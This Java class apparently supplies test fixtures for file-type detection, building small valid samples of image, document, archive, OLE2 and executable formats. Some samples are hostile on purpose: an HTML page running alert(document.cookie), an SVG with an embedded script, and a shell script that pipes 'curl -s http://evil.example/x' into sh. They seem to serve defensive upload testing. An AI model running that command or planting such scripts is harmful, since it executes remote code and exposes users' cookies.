package org.entsupport.core;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Minimal but real samples of each kind of file, built byte by byte. */
public final class Samples {

    private Samples() {}

    static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    /** A valid 1x1 grey PNG: signature, IHDR, IDAT, IEND with their CRCs. */
    public static byte[] png() {
        ByteBuffer ihdr = ByteBuffer.allocate(13)
                .putInt(1)
                .putInt(1)
                .put((byte) 8)
                .put((byte) 0)
                .put((byte) 0)
                .put((byte) 0)
                .put((byte) 0);
        Deflater deflater = new Deflater();
        deflater.setInput(new byte[] {0, (byte) 0x80}); // filter byte, one grey pixel
        deflater.finish();
        byte[] buffer = new byte[64];
        int n = deflater.deflate(buffer);
        byte[] idat = java.util.Arrays.copyOf(buffer, n);
        return concat(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'},
                chunk("IHDR", ihdr.array()),
                chunk("IDAT", idat),
                chunk("IEND", new byte[0]));
    }

    private static byte[] chunk(String type, byte[] data) {
        CRC32 crc = new CRC32();
        crc.update(ascii(type));
        crc.update(data);
        return ByteBuffer.allocate(12 + data.length)
                .putInt(data.length)
                .put(ascii(type))
                .put(data)
                .putInt((int) crc.getValue())
                .array();
    }

    /** A JPEG/JFIF header (SOI, APP0) and EOI. */
    static byte[] jpeg() {
        return concat(
                new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16},
                ascii("JFIF\0"),
                new byte[] {1, 1, 0, 0, 1, 0, 1, 0, 0, (byte) 0xFF, (byte) 0xD9});
    }

    /** A 1x1 transparent GIF89a. */
    static byte[] gif() {
        return concat(ascii("GIF89a"), new byte[] {
            1,
            0,
            1,
            0,
            (byte) 0x80,
            0,
            0,
            0,
            0,
            0,
            (byte) 0xFF,
            (byte) 0xFF,
            (byte) 0xFF,
            0x21,
            (byte) 0xF9,
            4,
            1,
            0,
            0,
            0,
            0,
            0x2C,
            0,
            0,
            0,
            0,
            1,
            0,
            1,
            0,
            0,
            2,
            2,
            0x44,
            1,
            0,
            0x3B
        });
    }

    /** A RIFF/WEBP container with a lossless (VP8L) chunk header. */
    static byte[] webp() {
        byte[] vp8l = {0x2F, 0, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, (byte) 0x88, (byte) 0x88, (byte) 0xFE, 0x07, 0};
        ByteBuffer chunk = ByteBuffer.allocate(8 + vp8l.length + 1)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(ascii("VP8L"))
                .putInt(vp8l.length)
                .put(vp8l)
                .put((byte) 0);
        ByteBuffer riff = ByteBuffer.allocate(12)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(ascii("RIFF"))
                .putInt(4 + chunk.capacity())
                .put(ascii("WEBP"));
        return concat(riff.array(), chunk.array());
    }

    /** A one-page PDF skeleton. */
    public static byte[] pdf() {
        return ascii("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
    }

    /** UTF-8 text with accents, tabs and CRLF. */
    static byte[] text() {
        return "Bonjour,\r\nl'écran reste noir après la connexion.\tMerci — Olivia ✓\n"
                .getBytes(StandardCharsets.UTF_8);
    }

    /** An OOXML package: {@code [Content_Types].xml} declaring {@code mainType} for {@code mainPart}. */
    static byte[] ooxml(String mainPart, String mainType) {
        String types = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/" + mainPart + "\" ContentType=\"" + mainType + "\"/></Types>";
        String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
                + "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
                + "Target=\"" + mainPart + "\"/></Relationships>";
        return zip(Map.of("[Content_Types].xml", types, "_rels/.rels", rels, mainPart, "<document/>"), null);
    }

    static byte[] docx() {
        return ooxml(
                "word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml");
    }

    static byte[] xlsx() {
        return ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml");
    }

    static byte[] pptx() {
        return ooxml(
                "ppt/presentation.xml",
                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml");
    }

    static byte[] docm() {
        return ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml");
    }

    /** An OpenDocument package: a stored {@code mimetype} entry first, then the content. */
    static byte[] odf(String mimeType) {
        return zip(
                Map.of("content.xml", "<office:document-content/>", "META-INF/manifest.xml", "<manifest/>"), mimeType);
    }

    /** A ZIP of {@code entries} (sorted by name), with a stored {@code mimetype} first when given. */
    static byte[] zip(Map<String, String> entries, String mimeType) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            if (mimeType != null) {
                byte[] m = ascii(mimeType);
                ZipEntry e = new ZipEntry("mimetype");
                e.setMethod(ZipEntry.STORED);
                e.setSize(m.length);
                CRC32 crc = new CRC32();
                crc.update(m);
                e.setCrc(crc.getValue());
                zip.putNextEntry(e);
                zip.write(m);
                zip.closeEntry();
            }
            for (String name : new java.util.TreeMap<>(entries).keySet()) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(entries.get(name).getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /**
     * An OLE2 compound file (version 3, 512-byte sectors): the header, one FAT sector, one directory sector
     * with a root entry and the given streams.
     */
    static byte[] ole2(String... streams) {
        ByteBuffer file = ByteBuffer.allocate(512 * 3).order(ByteOrder.LITTLE_ENDIAN);
        file.put(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1});
        file.position(0x18)
                .putShort((short) 0x3E)
                .putShort((short) 3)
                .putShort((short) 0xFFFE)
                .putShort((short) 9)
                .putShort((short) 6);
        file.position(0x2C).putInt(1); // one FAT sector
        file.putInt(1); // first directory sector: sector 1
        file.position(0x38).putInt(4096);
        file.putInt(-2).putInt(0).putInt(-2).putInt(0); // no mini FAT, no DIFAT sector
        file.putInt(0); // DIFAT[0]: the FAT is sector 0
        for (int i = 1; i < 109; i++) {
            file.putInt(-1);
        }
        // sector 0 (offset 512): the FAT: sector 0 is FAT, sector 1 ends the directory chain
        file.position(512).putInt(-3).putInt(-2);
        while (file.position() < 1024) {
            file.putInt(-1);
        }
        directoryEntry(file, 1024, "Root Entry", 5);
        for (int i = 0; i < streams.length; i++) {
            directoryEntry(file, 1024 + 128 * (i + 1), streams[i], 2);
        }
        return file.array();
    }

    private static void directoryEntry(ByteBuffer file, int at, String name, int type) {
        byte[] utf16 = name.getBytes(StandardCharsets.UTF_16LE);
        file.position(at).put(utf16);
        file.position(at + 0x40)
                .putShort((short) (utf16.length + 2))
                .put((byte) type)
                .put((byte) 1);
        file.putInt(-1).putInt(-1).putInt(-1);
    }

    /** A 64-bit ELF header. */
    static byte[] elf() {
        return concat(
                new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0}, new byte[44]);
    }

    /** The start of a Windows executable: MZ stub and PE header. */
    static byte[] pe() {
        byte[] b = new byte[256];
        b[0] = 'M';
        b[1] = 'Z';
        b[0x3C] = (byte) 0x80;
        System.arraycopy(ascii("PE\0\0"), 0, b, 0x80, 4);
        return b;
    }

    public static byte[] html() {
        return ascii("<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n");
    }

    static byte[] svg() {
        return ascii("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script>"
                + "</svg>\n");
    }

    static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl -s http://evil.example/x | sh\n");
    }

    /** A stream of {@code size} bytes starting with {@code header}, then a repeating pattern; no array of that size. */
    static InputStream generated(byte[] header, long size) {
        return new InputStream() {
            private long position;

            @Override
            public int read() {
                if (position >= size) {
                    return -1;
                }
                long p = position++;
                return p < header.length ? header[(int) p] & 0xFF : (int) ((p * 31 + (p >>> 12)) & 0xFF);
            }

            @Override
            public int read(byte[] b, int off, int len) {
                if (position >= size) {
                    return -1;
                }
                int n = (int) Math.min(len, size - position);
                for (int i = 0; i < n; i++) {
                    b[off + i] = (byte) read();
                }
                return n;
            }
        };
    }
}
